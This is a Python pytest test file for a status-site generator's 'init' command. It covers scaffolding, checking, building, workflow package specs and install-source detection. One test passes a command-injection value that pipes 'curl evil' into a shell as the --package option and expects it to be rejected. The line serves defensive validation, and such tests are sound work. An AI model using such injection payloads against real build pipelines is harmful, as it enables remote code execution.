"""``statusgen init``: a new status-site repository that checks and builds as created."""

from __future__ import annotations

import json
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from generator import __version__
from generator.build import check
from generator.cli import main
from generator.scaffold import install_source

NOW = "2026-11-20 15:30 UTC"
NOW_TIME = datetime(2026, 11, 20, 15, 30, tzinfo=UTC)

EXPECTED_FILES = {
    "site.yaml",
    "content/incidents/2026-11-18-example-incident.md",
    ".github/workflows/check.yml",
    ".github/workflows/publish.yml",
    "README.md",
    ".gitignore",
}


def files_in(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


@pytest.fixture
def new_site(tmp_path: Path) -> Path:
    target = tmp_path / "acme-status"
    assert main(["init", str(target), "--now", NOW]) == 0
    return target


def test_init_writes_a_repository(new_site: Path) -> None:
    assert files_in(new_site) == EXPECTED_FILES


def test_the_new_site_checks_strictly_and_builds_as_created(
    new_site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check", "--source", str(new_site), "--strict", "--now", NOW]) == 0
    assert "0 errors, 0 warnings" in capsys.readouterr().out
    output = tmp_path / "out"
    assert main(["build", "--source", str(new_site), "--output", str(output), "--now", NOW]) == 0
    home = (output / "index.html").read_text(encoding="utf-8")
    assert "Acme Status" in home  # the name comes from the folder: "acme-status" → "Acme"
    assert "All Systems Operational" in home
    assert (output / "incidents" / "2026-11-18-example-incident" / "index.html").is_file()


@pytest.mark.parametrize("later", [timedelta(0), timedelta(hours=5), timedelta(days=400)])
def test_the_example_incident_never_becomes_overdue(new_site: Path, later: timedelta) -> None:
    checked = check(new_site, NOW_TIME + later, strict=True)
    assert checked.warnings == []


def test_name_url_and_package_are_written_where_they_belong(tmp_path: Path) -> None:
    target = tmp_path / "site"
    spec = "git+https://github.com/acme/statusgen@v0.1.0"
    assert (
        main(
            [
                "init",
                str(target),
                "--name",
                'Acme "Cloud": EU',
                "--url",
                "https://acme-status.example/",
                "--package",
                spec,
                "--now",
                NOW,
            ]
        )
        == 0
    )
    checked = check(target, NOW_TIME, strict=True)
    assert checked.content.site.name == 'Acme "Cloud": EU'
    assert checked.content.site.url == "https://acme-status.example/"
    for name in ("check.yml", "publish.yml"):
        workflow = (target / ".github" / "workflows" / name).read_text(encoding="utf-8")
        assert f'STATUSGEN_PACKAGE: "{spec}"' in workflow
        assert 'pip install "$STATUSGEN_PACKAGE"' in workflow
    assert spec in (target / "README.md").read_text(encoding="utf-8")


def test_by_default_the_workflows_install_this_version(new_site: Path) -> None:
    workflow = (new_site / ".github" / "workflows" / "publish.yml").read_text(encoding="utf-8")
    assert f'STATUSGEN_PACKAGE: "statusgen=={__version__}"' in workflow


def test_a_folder_in_use_is_refused_and_left_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "site"
    target.mkdir()
    (target / "notes.txt").write_text("mine")
    assert main(["init", str(target), "--now", NOW]) == 2
    assert "is not empty (notes.txt)" in capsys.readouterr().err
    assert files_in(target) == {"notes.txt"}


def test_a_fresh_git_clone_is_a_fine_place_to_start(tmp_path: Path) -> None:
    target = tmp_path / "site"
    (target / ".git").mkdir(parents=True)
    assert main(["init", str(target), "--now", NOW]) == 0
    assert files_in(target) >= EXPECTED_FILES


def test_force_adds_missing_files_and_never_overwrites(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "site"
    target.mkdir()
    (target / "README.md").write_text("our own readme\n")
    assert main(["init", str(target), "--force", "--now", NOW]) == 0
    assert (target / "README.md").read_text() == "our own readme\n"
    assert "kept  " in capsys.readouterr().out
    assert files_in(target) == EXPECTED_FILES


def test_force_adds_no_example_to_a_site_with_incidents(new_site: Path) -> None:
    before = files_in(new_site)
    assert main(["init", str(new_site), "--force", "--now", "2027-03-01 10:00 UTC"]) == 0
    assert files_in(new_site) == before


@pytest.mark.parametrize(
    "option",
    [
        ["--url", "status.example.com"],
        ["--package", 'statusgen"; curl evil | sh; "'],
        ["--name", ""],
    ],
)
def test_bad_options_are_wrong_usage(tmp_path: Path, option: list[str]) -> None:
    target = tmp_path / "site"
    assert main(["init", str(target), *option, "--now", NOW]) == 2
    assert not target.exists()


def _installed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, direct_url: dict[str, object] | None
) -> str:
    """A distribution as pip leaves it (PEP 610's direct_url.json in its .dist-info), found by
    importlib.metadata on sys.path; returns its name."""
    info = tmp_path / "site-packages" / "statusgen_probe-0.1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: statusgen-probe\nVersion: 0.1.0\n")
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url), encoding="utf-8")
    monkeypatch.syspath_prepend(str(info.parent))
    return "statusgen-probe"


COMMIT = "4f1c3e2b9a7d6c5b4a39281706f5e4d3c2b1a098"


@pytest.mark.parametrize(
    ("direct_url", "requirement"),
    [
        (None, f"statusgen=={__version__}"),  # from an index
        (
            {
                "url": "https://github.com/acme/statusgen.git",
                "vcs_info": {"vcs": "git", "requested_revision": "main", "commit_id": COMMIT},
            },
            f"git+https://github.com/acme/statusgen.git@{COMMIT}",
        ),
        (
            {
                "url": "https://example.org/statusgen-0.1.0-py3-none-any.whl",
                "archive_info": {"hashes": {"sha256": "ab" * 32}},
            },
            "https://example.org/statusgen-0.1.0-py3-none-any.whl#sha256=" + "ab" * 32,
        ),
        (
            {"url": "file:///home/me/statusgen-0.1.0-py3-none-any.whl", "archive_info": {}},
            f"statusgen=={__version__}",
        ),
        ({"url": "file:///nowhere/statusgen", "dir_info": {}}, f"statusgen=={__version__}"),
        (
            {"url": "file:///srv/statusgen.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
            f"statusgen=={__version__}",
        ),
    ],
)
def test_the_install_source_is_where_statusgen_came_from(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    direct_url: dict[str, object] | None,
    requirement: str,
) -> None:
    assert install_source(_installed(tmp_path, monkeypatch, direct_url)).requirement == requirement


def test_a_local_clone_is_installed_from_its_remote_at_its_commit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = tmp_path / "statusgen"
    clone.mkdir()

    def git(*args: str) -> str:
        done = subprocess.run(
            ["git", "-C", str(clone), "-c", "user.name=t", "-c", "user.email=t@t", *args],
            capture_output=True,
            text=True,
            check=True,
        )
        return done.stdout.strip()

    git("init", "-q")
    (clone / "README.md").write_text("statusgen\n")
    git("add", "README.md")
    git("commit", "-qm", "first")
    git("remote", "add", "origin", "https://github.com/acme/statusgen.git")
    name = _installed(tmp_path, monkeypatch, {"url": clone.as_uri(), "dir_info": {}})
    # A commit not yet pushed cannot be installed from the remote: the released version.
    assert install_source(name).requirement == f"statusgen=={__version__}"
    commit = git("rev-parse", "HEAD")
    git("update-ref", "refs/remotes/origin/main", commit)  # as a push leaves it
    assert install_source(name).requirement == f"git+https://github.com/acme/statusgen.git@{commit}"


def test_init_says_what_the_workflows_install(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", str(tmp_path / "site"), "--now", "2026-11-20 12:00 UTC"]) == 0
    out = capsys.readouterr().out
    source = install_source()
    assert f"The site's workflows install {source.requirement}: {source.reason}." in out
    workflow = (tmp_path / "site" / ".github" / "workflows" / "publish.yml").read_text()
    assert f'STATUSGEN_PACKAGE: "{source.requirement}"' in workflow
